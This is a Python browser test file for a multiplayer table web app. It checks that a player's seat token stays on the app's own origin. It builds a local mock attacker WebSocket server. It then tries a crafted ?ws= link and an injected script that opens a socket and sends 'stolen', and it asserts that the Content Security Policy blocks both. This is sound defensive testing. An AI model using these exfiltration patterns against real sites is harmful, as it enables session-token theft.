"""The seat token stays with the table's own origin, even when a link or a script points elsewhere.

An attacker runs a real WebSocket server and gets the victim to open the table, in the tab that
holds a seat, with ``?ws=ws://attacker/ws``; then tries the same from a script on the page. The
attacker's server must see no connection at all, and the table must resume its seat on its own
gateway.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
from aiohttp import WSMsgType, web

from tests.browser.conftest import ACTION_TIMEOUT_MS, Browser, Servers

pytestmark = pytest.mark.browser


@dataclass
class Attacker:
    port: int = 0
    requests: list[str] = field(default_factory=list)
    messages: list[str] = field(default_factory=list)


@pytest.fixture
async def attacker() -> AsyncIterator[Attacker]:
    seen = Attacker()

    async def anything(request: web.Request) -> web.StreamResponse:
        seen.requests.append(request.path_qs)
        ws = web.WebSocketResponse()
        await ws.prepare(request)
        async for frame in ws:
            if frame.type == WSMsgType.TEXT:
                seen.messages.append(frame.data)
        return ws

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", anything)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    server = site._server
    assert server is not None and getattr(server, "sockets", None)
    seen.port = int(server.sockets[0].getsockname()[1])  # type: ignore[attr-defined]
    try:
        yield seen
    finally:
        await runner.cleanup()


async def test_a_ws_parameter_never_takes_the_seat_token_elsewhere(
    servers: Servers, browser: Browser, attacker: Attacker
) -> None:
    page = browser.page
    first = await page.goto(servers.url)
    assert first is not None
    await page.get_by_test_id("player-name").fill("지호")
    await page.get_by_test_id("create-room").tap()
    await page.get_by_test_id("waiting-room").wait_for()
    (joined,) = browser.log.received("joined")
    token = joined["token"]

    # The link the attacker sends: the same table, the same tab (the seat is in sessionStorage).
    await page.goto(f"{servers.url}?ws=ws://127.0.0.1:{attacker.port}/ws")
    async with asyncio.timeout(ACTION_TIMEOUT_MS / 1000):
        while not attacker.requests and not [f for f in browser.log.sent("resume") if f.socket == 2]:
            await asyncio.sleep(0.05)
    await asyncio.sleep(0.5)  # anything in flight to the attacker arrives
    assert attacker.requests == [] and attacker.messages == [], (attacker.requests, attacker.messages)
    await page.get_by_test_id("waiting-room").wait_for()

    # A script on the page cannot reach it either: the browser enforces the CSP.
    outcome = await page.evaluate(
        """(url) => new Promise((done) => {
             const ws = new WebSocket(url);
             ws.onopen = () => { ws.send('stolen'); done('open'); };
             ws.onerror = () => done('error');
           })""",
        f"ws://127.0.0.1:{attacker.port}/steal",
    )
    await asyncio.sleep(0.5)
    assert attacker.requests == [] and attacker.messages == [], (attacker.requests, attacker.messages)
    assert outcome == "error"
    assert "connect-src 'self'" in first.headers.get("content-security-policy", "")
    resumed = [f.message for f in browser.log.sent("resume") if f.socket == 2]
    assert resumed and resumed[0]["token"] == token  # ... to the table's own gateway
    assert [m["roomId"] for m in browser.log.received("joined")] == [joined["roomId"]] * 2
    # That blocked socket is reported as a CSP violation; this test caused it on purpose.
    blocked = [e for e in browser.log.page_errors if "Content Security Policy" in e]
    assert blocked, "the browser did not report the blocked connection"
    browser.log.page_errors[:] = [e for e in browser.log.page_errors if e not in blocked]
